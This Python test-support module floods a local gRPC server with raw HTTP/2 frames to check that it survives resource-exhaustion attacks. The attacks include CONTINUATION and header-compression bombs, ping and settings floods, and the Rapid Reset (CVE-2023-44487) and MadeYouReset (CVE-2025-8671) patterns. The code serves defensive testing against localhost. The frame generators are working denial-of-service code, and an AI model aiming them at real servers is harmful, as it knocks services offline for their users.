"""Frames of HTTP/2 that cost their sender little and a careless server much (RFC 9113 10.5), in a process of their own.

Usage: python -m support.floods GRPC_PORT FLOOD SECONDS. Prints how many connections the server closed, how many frames it
was sent, and for how long the longest connection held."""

import itertools
import socket
import struct
import sys
import time
from collections.abc import Iterator

from hpack import Encoder

ADDRESS = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
LIST_KEYS = "/ipse.v1.KeyService/ListSigningKeys"
# How many frames are written at a time.
BATCH = 500


def frame(kind: int, flags: int = 0, stream: int = 0, content: bytes = b"") -> bytes:
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def head(*further: tuple[str, str]) -> bytes:
    """The fields of a call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"), (":path", LIST_KEYS)]
    return Encoder().encode([*fields, ("content-type", "application/grpc"), ("te", "trailers"), *further])


def streams() -> Iterator[int]:
    """The numbers of a client's streams."""
    return itertools.count(1, 2)


def continuations() -> Iterator[bytes]:
    """A head without an end, whose fields are never the same."""
    yield frame(HEADERS, 0, 1, head())
    for number in itertools.count():
        yield frame(CONTINUATION, 0, 1, b"\0\x08x-%06d\x01a" % (number % 1_000_000))


def empty_continuations() -> Iterator[bytes]:
    """A head without an end, to which nothing comes."""
    yield frame(HEADERS, 0, 1, head())
    yield from itertools.repeat(frame(CONTINUATION, 0, 1))


def header_bombs() -> Iterator[bytes]:
    """A large field in the table of the connection, meant again and again by one byte."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + b"\x40\x01b\x7f\xa1\x1e" + b"a" * 4000)
    for stream in itertools.islice(streams(), 1, None):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head() + b"\xbe" * 16_000)


def empty_data() -> Iterator[bytes]:
    """A call whose message comes in pieces of nothing."""
    yield frame(HEADERS, END_HEADERS, 1, head())
    yield from itertools.repeat(frame(DATA, 0, 1))


def padding() -> Iterator[bytes]:
    """The same, with nothing wrapped up in padding."""
    yield frame(HEADERS, END_HEADERS, 1, head())
    yield from itertools.repeat(frame(DATA, 0x8, 1, b"\xff" + bytes(255)))


def pings() -> Iterator[bytes]:
    """Each of which is to be answered."""
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def settings() -> Iterator[bytes]:
    """The same, and the table of fields changes its size."""
    for number in itertools.count():
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096 if number % 2 else 0))


def priorities() -> Iterator[bytes]:
    """Of streams that never begin."""
    yield from (frame(PRIORITY, 0, stream % 2**31, struct.pack(">IB", 0, 1)) for stream in streams())


def window_updates() -> Iterator[bytes]:
    """By one byte."""
    yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def unknown_frames() -> Iterator[bytes]:
    """Of a kind that nobody knows, which are to be ignored."""
    yield from itertools.repeat(frame(0xFE, 0xFF, 0, bytes(64)))


def resets() -> Iterator[bytes]:
    """Calls that are given up as soon as they are made (CVE-2023-44487)."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head())
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_resets() -> Iterator[bytes]:
    """Calls that the server gives up, for a mistake that their client makes (CVE-2025-8671)."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head())
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def calls() -> Iterator[bytes]:
    """Whose answers nobody reads."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head()) + frame(DATA, END_STREAM, stream, bytes(5))


FLOODS = [
    continuations,
    empty_continuations,
    header_bombs,
    empty_data,
    padding,
    pings,
    settings,
    priorities,
    window_updates,
    unknown_frames,
    resets,
    made_resets,
    calls,
]


def send(port: int, frames: Iterator[bytes], until: float) -> tuple[int, bool]:
    """How many frames one connection took, and whether the server closed it."""
    count = 0
    with socket.socket() as one:
        one.bind((ADDRESS, 0))
        one.settimeout(max(0.1, until - time.monotonic()))
        try:
            one.connect(("127.0.0.1", port))
            one.sendall(PREFACE + frame(SETTINGS))
            while time.monotonic() < until:
                one.sendall(b"".join(itertools.islice(frames, BATCH)))
                count += BATCH
        except TimeoutError:
            return count, False
        except OSError:
            return count, True
    return count, False


def main(port: int, flood: str, seconds: float) -> None:
    frames = next(one for one in FLOODS if one.__name__ == flood)
    closed, sent, longest = 0, 0, 0.0
    until = time.monotonic() + seconds
    while (began := time.monotonic()) < until:
        count, is_closed = send(port, frames(), until)
        closed, sent, longest = closed + is_closed, sent + count, max(longest, time.monotonic() - began)
    print(closed, sent, round(longest, 2))


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))
